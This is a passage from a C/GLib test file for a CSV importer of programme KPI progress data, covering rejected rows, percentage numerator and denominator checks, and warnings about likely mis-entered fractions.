                    WCFC_ROW ("FY2016-Q5", "9", "")
                    CANNOCK "," CANNOCK_PILOT ",\"" CESS_KPI "\",FY2016-Q4,4,\r\n";
  g_autoptr(PmProgressImport) import = pm_progress_import_new (fixture->programme);
  g_autoptr(GError) error = NULL;
  PmKpi *wcfc = find_kpi (fixture->programme, CANNOCK, CANNOCK_PILOT, WCFC_KPI);
  PmKpi *reach = find_kpi (fixture->programme, LICHFIELD, LICHFIELD_PILOT, REACH_KPI);
  PmKpi *kpi;
  guint line = 0;

  g_assert_true (pm_store_delete_kpi (fixture->store, pm_kpi_get_pilot (wcfc), wcfc, &error));
  g_assert_no_error (error);
  pm_kpi_set_unit (reach, PM_UNIT_RATE);

  g_assert_true (pm_progress_import_read_csv (import, csv, strlen (csv), &error));
  g_assert_no_error (error);
  pm_progress_import_compare (import);

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 3);
  g_assert_cmpstr (pm_progress_import_get_rejection (import, 0, &line), ==,
                   "Line 2: the KPI “" REACH_KPI "” was deleted or given another unit while "
                   "the file was read: import the file again.");
  g_assert_cmpuint (line, ==, 2);
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 1, &line),
                            "“" WCFC_KPI "” was deleted"));
  g_assert_cmpuint (line, ==, 3);
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 2, &line), "is not a period"));
  g_assert_cmpuint (line, ==, 4);

  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 1);
  g_assert_cmpuint (pm_progress_import_get_row (import, 0, &kpi, NULL, NULL), ==, 5);
  g_assert_cmpstr (pm_kpi_get_title (kpi), ==, CESS_KPI);
}

/* ---- a percentage's parts, and a percentage that looks like a fraction --- */

#define PARTS_HEADER "district,pilot,kpi,period,value,denominator,numerator\r\n"
#define REACH_PARTS(period, value, denominator, numerator) \
  LICHFIELD "," LICHFIELD_PILOT "," REACH_KPI "," period "," value "," denominator "," numerator "\r\n"
#define OUTCOMES_KPI "% of families reporting improved outcomes by analysis of outcome star e.g. - " \
                     "30 families all increased with regards to effective parenting"
#define OUTCOMES_ROW(period, value) \
  CANNOCK "," CANNOCK_PILOT "," OUTCOMES_KPI "," period "," value ",\r\n"

static void
test_import_parts (Fixture       *fixture,
                   gconstpointer  data G_GNUC_UNUSED)
{
  /* Columns found by name, in any order; "24" rounds 24.118 as written,
   * "24.2" does not. */
  g_autoptr(PmProgressImport) import =
    check (fixture, PARTS_HEADER
                    REACH_PARTS ("FY2016-Q1", "24", "879", "212")
                    REACH_PARTS ("FY2016-Q2", "24.2", "879", "212")
                    REACH_PARTS ("FY2016-Q3", "", "10", "12")
                    REACH_PARTS ("FY2016-Q4", "", "10", "")
                    CANNOCK "," CANNOCK_PILOT ",\"" WCFC_KPI "\",FY2017-Q1,5,,\r\n"
                    CANNOCK "," CANNOCK_PILOT ",\"" WCFC_KPI "\",FY2017-Q2,,2,1\r\n");
  PmProgressEntry *entry;

  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, 2);
  pm_progress_import_get_row (import, 0, NULL, &entry, NULL);
  g_assert_true (pm_progress_entry_has_fraction (entry));
  g_assert_cmpfloat (pm_progress_entry_get_numerator (entry), ==, 212);
  g_assert_cmpfloat (pm_progress_entry_get_denominator (entry), ==, 879);
  g_assert_cmpfloat_with_epsilon (pm_progress_entry_get_value (entry), 24.118, 0.001);
  g_assert_null (pm_progress_import_get_warning (import, 0));

  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 4);
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 0, NULL),
                            "Line 3: " REACH_KPI ": the value 24.2% does not match its parts: "
                            "212 of 879 is 24.1%."));
  /* 12 of 10. */
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 1, NULL), "Line 4: "));
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 2, NULL),
                            "Line 5: " REACH_KPI ": give both a numerator and a denominator, or neither."));
  g_assert_nonnull (strstr (pm_progress_import_get_rejection (import, 3, NULL),
                            "Line 7: " WCFC_KPI ": a numerator and denominator are only for percentages."));
}

/* A value now given with its parts is a change, and is stored with them. */
static void
test_import_parts_saved (Fixture       *fixture,
                         gconstpointer  data G_GNUC_UNUSED)
{
  g_autoptr(PmProgressImport) plain = check (fixture, HEADER REACH_ROW ("FY2016-Q4", "50", ""));
  g_autoptr(PmProgressImport) parts = NULL;
  g_autoptr(PmProgressWriter) writer = NULL;
  g_autoptr(PmProgramme) loaded = NULL;
  g_autoptr(PmPeriod) q4 = pm_period_parse ("FY2016-Q4", NULL);
  g_autoptr(GError) error = NULL;
  PmProgressEntry *entry;

  writer = pm_progress_writer_new (fixture->store, plain);
  g_assert_true (pm_progress_writer_run (writer, NULL, &error));
  g_assert_no_error (error);
  g_clear_object (&writer);

  parts = check (fixture, PARTS_HEADER REACH_PARTS ("FY2016-Q4", "50", "10", "5"));
  g_assert_cmpuint (pm_progress_import_count_change (parts, PM_IMPORT_CHANGE_CHANGED), ==, 1);
  writer = pm_progress_writer_new (fixture->store, parts);
  g_assert_true (pm_progress_writer_run (writer, NULL, &error));
  g_assert_no_error (error);

  loaded = pm_test_store_read (fixture->db, PM_STORE_OPEN_READ_ONLY);
  entry = pm_kpi_get_entry (find_kpi (loaded, LICHFIELD, LICHFIELD_PILOT, REACH_KPI), q4);
  g_assert_true (pm_progress_entry_has_fraction (entry));
  g_assert_cmpfloat (pm_progress_entry_get_numerator (entry), ==, 5);
  g_assert_cmpfloat (pm_progress_entry_get_denominator (entry), ==, 10);
}

static void
test_import_fraction_warning (Fixture       *fixture,
                              gconstpointer  data G_GNUC_UNUSED)
{
  /* The reach baseline is 44.8%: 0.62 is warned, 0 and 1.5 are not. The
   * outcomes KPI has no baseline value and no values: 0.5 alone is not
   * warned, but beside 45 in the same file it is. */
  g_autoptr(PmProgressImport) reach =
    check (fixture, HEADER REACH_ROW ("FY2016-Q2", "0.62", "") REACH_ROW ("FY2016-Q3", "0", "")
                    REACH_ROW ("FY2016-Q4", "1.5", ""));
  g_autoptr(PmProgressImport) alone = check (fixture, HEADER OUTCOMES_ROW ("FY2016-Q4", "0.5"));
  g_autoptr(PmProgressImport) beside =
    check (fixture, HEADER OUTCOMES_ROW ("FY2016-Q4", "0.5") OUTCOMES_ROW ("FY2017-Q1", "45"));
  PmProgressEntry *entry;

  g_assert_cmpuint (pm_progress_import_get_n_rejected (reach), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_warnings (reach), ==, 1);
  g_assert_cmpstr (pm_progress_import_get_warning (reach, 0), ==,
                   "0.62 is kept as 0.62%, but this KPI’s other values are above 1%: did you mean 62%?");
  pm_progress_import_get_row (reach, 0, NULL, &entry, NULL);
  g_assert_cmpfloat (pm_progress_entry_get_value (entry), ==, 0.62);

  g_assert_cmpuint (pm_progress_import_get_n_rows (alone), ==, 1);
  g_assert_cmpuint (pm_progress_import_get_n_warnings (alone), ==, 0);
  g_assert_cmpuint (pm_progress_import_get_n_warnings (beside), ==, 1);
  g_assert_nonnull (pm_progress_import_get_warning (beside, 0));
}

int
main (int   argc,
      char *argv[])
{
  setlocale (LC_ALL, "");
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/reader/quotes", test_reader_quotes);
  g_test_add_func ("/csv/reader/line-ends", test_reader_line_ends);
  g_test_add_func ("/csv/reader/bom", test_reader_bom);
  g_test_add_func ("/csv/reader/faults", test_reader_faults);
  g_test_add_func ("/csv/writer/field", test_writer_field);
  g_test_add_func ("/csv/writer/formula-guard", test_writer_formula_guard);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("/csv/import/good-rows", test_import_good_rows);
  ADD ("/csv/import/unchanged", test_import_unchanged);
  ADD ("/csv/import/letters", test_import_letters);
  ADD ("/csv/import/numbers", test_import_numbers);
  ADD ("/csv/import/percentage-over-100", test_import_percentage_over_100);
  ADD ("/csv/import/unknown-names", test_import_unknown_names);
  ADD ("/csv/import/names-loosely", test_import_names_loosely);
  ADD ("/csv/import/bad-period", test_import_bad_period);
  ADD ("/csv/import/field-count", test_import_field_count);
  ADD ("/csv/import/repeated-row", test_import_repeated_row);
  ADD ("/csv/import/bad-files", test_import_bad_files);
  ADD ("/csv/write/commits", test_write_commits);
  ADD ("/csv/write/cancel", test_write_cancel);
  ADD ("/csv/write/cancellable", test_write_cancellable);
  ADD ("/csv/write/read-only", test_write_read_only);
  ADD ("/csv/write/deleted-since-review", test_write_deleted_since_review);
  ADD ("/csv/steps/read-a-copy", test_steps_read_a_copy);
  ADD ("/csv/steps/kpi-changed-while-read", test_steps_kpi_changed_while_read);
  ADD ("/csv/import/parts", test_import_parts);
  ADD ("/csv/import/parts-saved", test_import_parts_saved);
  ADD ("/csv/import/fraction-warning", test_import_fraction_warning);
#undef ADD

  return g_test_run ();
}
